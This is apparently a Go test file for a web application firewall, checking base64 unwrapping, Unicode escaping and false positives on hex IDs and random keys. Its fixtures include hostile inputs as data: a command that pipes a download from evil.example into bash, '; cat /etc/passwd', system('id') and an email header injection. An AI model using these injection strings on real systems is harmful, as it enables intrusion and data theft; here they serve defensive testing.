package waf

import (
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"math/rand/v2"
	"net/http"
	"slices"
	"strings"
	"testing"
)

func TestBase64DecodeText(t *testing.T) {
	tests := []struct {
		in, want string
	}{
		{base64.StdEncoding.EncodeToString([]byte("| id")), "| id"},
		{base64.StdEncoding.EncodeToString([]byte("x\r\nBcc: a@b.example\tz")), "x\r\nBcc: a@b.example\tz"},
		{base64.StdEncoding.EncodeToString([]byte("Grüße, 日本語")), "Grüße, 日本語"},
		{base64.StdEncoding.EncodeToString([]byte{0xff, 0xfe, '{', '{'}), ""}, // not UTF-8
		{base64.StdEncoding.EncodeToString([]byte("a\x00{{b}}")), ""},         // NUL
		{base64.StdEncoding.EncodeToString([]byte("a\x1b[0m")), ""},           // escape
		{base64.StdEncoding.EncodeToString([]byte("a\x7f")), ""},              // DEL
		{"5257e336a7dd", ""}, // a hex ID: decodes to "\xe7\x9d\xbb{{..." bytes
		{"not base64!", ""},
		{"", ""},
	}
	for _, tt := range tests {
		got, _, err := base64DecodeText(tt.in)
		if err != nil || got != tt.want {
			t.Errorf("base64DecodeText(%q) = %q, %v; want %q", tt.in, got, err, tt.want)
		}
	}
}

// TestBase64ShapedValuesPass: values that are base64-shaped without being base64 text (hex
// digests and IDs, random alphanumeric keys and codes, base64 of random bytes such as nonces)
// pass the shipped rules. Rules 10270-10272 once decoded them all and matched two-byte
// fragments, refusing about one such value in two hundred: the verify suite's random hex run
// IDs were refused now and then.
func TestBase64ShapedValuesPass(t *testing.T) {
	rng := rand.New(rand.NewPCG(1, 2))
	const alnum = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
	randBytes := func(n int) []byte {
		b := make([]byte, n)
		for i := range b {
			b[i] = byte(rng.UintN(256))
		}
		return b
	}
	var values []string
	for range 400 {
		for _, n := range []int{6, 16, 20, 32} { // 12-64 hex digits: IDs, MD5, SHA-1, SHA-256
			values = append(values, hex.EncodeToString(randBytes(n)))
		}
		for _, n := range []int{8, 12, 16, 24, 32} { // codes and API keys
			b := make([]byte, n)
			for i := range b {
				b[i] = alnum[rng.IntN(len(alnum))]
			}
			values = append(values, string(b))
		}
		for _, n := range []int{9, 16, 32} { // nonces and secrets
			values = append(values, base64.StdEncoding.EncodeToString(randBytes(n)))
		}
	}
	s := newStack(t, Config{WAF: shippedWAF(t)})
	send := func(i int, vs []string) (int, string) {
		var body strings.Builder
		body.WriteString(`{"name":"x","data":{`)
		for j, v := range vs {
			if j > 0 {
				body.WriteByte(',')
			}
			fmt.Fprintf(&body, `"v%d":%q`, j, v)
		}
		body.WriteString(`}}`)
		rec := s.do(t, request{method: "POST", target: "/test", contentType: "application/json", body: body.String(),
			remote: fmt.Sprintf("203.0.113.%d:1", i%250)})
		if rec.Code == http.StatusOK {
			return rec.Code, ""
		}
		recs := s.logs.records(t)
		return rec.Code, fmt.Sprint(recs[len(recs)-1]["reason"])
	}
	const batch = 50
	blocked := 0
	for i := 0; i < len(values); i += batch {
		vs := values[i:min(i+batch, len(values))]
		if code, _ := send(i/batch, vs); code == http.StatusOK {
			continue
		}
		for j, v := range vs { // name the values refused
			if code, reason := send(i+j, []string{v}); code != http.StatusOK {
				blocked++
				if blocked <= 10 {
					t.Errorf("%q: status %d: %s", v, code, reason)
				}
			}
		}
	}
	if blocked > 0 {
		t.Errorf("%d of %d base64-shaped values refused", blocked, len(values))
	}
	if !slices.ContainsFunc(values, func(v string) bool { return strings.HasSuffix(v, "=") }) {
		t.Fatal("no padded values generated")
	}
}

func TestUTF8ToUnicode(t *testing.T) {
	tests := []struct {
		in, want string
		changed  bool
	}{
		{"plain ascii", "plain ascii", false},
		{"＜script＞", "%uff1cscript%uff1e", true}, // full width: urlDecodeUni folds it to '<'
		{"it’s “quoted”", "it%u2019s %u201cquoted%u201d", true},
		{"café", "caf%u00e9", true},
		{"这是一个测试", "这是一个测试", false}, // CJK stays UTF-8
		{"Ч and ✓ and 😀", "Ч and ✓ and 😀", false},
		{"a\xffb", "a\xffb", false}, // not UTF-8: as it came
		{"", "", false},
	}
	for _, tt := range tests {
		got, changed, err := utf8ToUnicode(tt.in)
		if err != nil || got != tt.want || changed != tt.changed {
			t.Errorf("utf8ToUnicode(%q) = %q, %v, %v; want %q, %v", tt.in, got, changed, err, tt.want, tt.changed)
		}
	}
}

// FuzzUTF8ToUnicode: the output is the input with some characters written as %uXXXX, each of
// them in a best-fit block; nothing else changes.
func FuzzUTF8ToUnicode(f *testing.F) {
	for _, s := range []string{"＜script＞", "it’s", "这是一个测试", "a\xffb", "%u0027"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, in string) {
		if strings.Contains(in, "%u") {
			return // a literal %u would read back as an escape
		}
		out, _, err := utf8ToUnicode(in)
		if err != nil {
			t.Fatal(err)
		}
		var back strings.Builder
		for i := 0; i < len(out); {
			if strings.HasPrefix(out[i:], "%u") && i+6 <= len(out) {
				var r rune
				if _, err := fmt.Sscanf(out[i+2:i+6], "%04x", &r); err != nil || !bestFitBlock(r) {
					t.Fatalf("utf8ToUnicode(%q) = %q: escape %q", in, out, out[i:i+6])
				}
				back.WriteRune(r)
				i += 6
				continue
			}
			back.WriteByte(out[i])
			i++
		}
		if back.String() != in {
			t.Fatalf("utf8ToUnicode(%q) = %q, which reads back as %q", in, out, back.String())
		}
	})
}

// FuzzBase64DecodeText: the output is empty or the input's decoding, and then text.
func FuzzBase64DecodeText(f *testing.F) {
	for _, s := range []string{"fCBpZA==", "5257e336a7dd", "////", "", "YQ"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, in string) {
		out, _, err := base64DecodeText(in)
		if err != nil {
			t.Fatal(err)
		}
		if out == "" {
			return
		}
		dec, derr := base64.StdEncoding.DecodeString(in)
		if derr != nil || string(dec) != out || !isText([]byte(out)) {
			t.Fatalf("base64DecodeText(%q) = %q: decodes to %q (%v)", in, out, dec, derr)
		}
		if got, changed, _ := unwrapBase64(in); got != out || !changed {
			t.Fatalf("unwrapBase64(%q) = %q, %v; base64DecodeText gives %q", in, got, changed, out)
		}
	})
}

func TestUnwrapBase64(t *testing.T) {
	b64 := base64.StdEncoding.EncodeToString
	tests := []struct {
		in, want string
		changed  bool
	}{
		{b64([]byte(";curl evil.example/s|bash")), ";curl evil.example/s|bash", true},
		{b64([]byte("system('id')")), "system('id')", true},
		{"; cat /etc/passwd", "; cat /etc/passwd", false}, // not base64: kept for the rule to read
		{"5257e336a7dd", "5257e336a7dd", false},           // base64-shaped, not text
		{"abc", "abc", false},
		{"", "", false},
	}
	for _, tt := range tests {
		got, changed, err := unwrapBase64(tt.in)
		if err != nil || got != tt.want || changed != tt.changed {
			t.Errorf("unwrapBase64(%q) = %q, %v, %v; want %q, %v", tt.in, got, changed, err, tt.want, tt.changed)
		}
	}
}
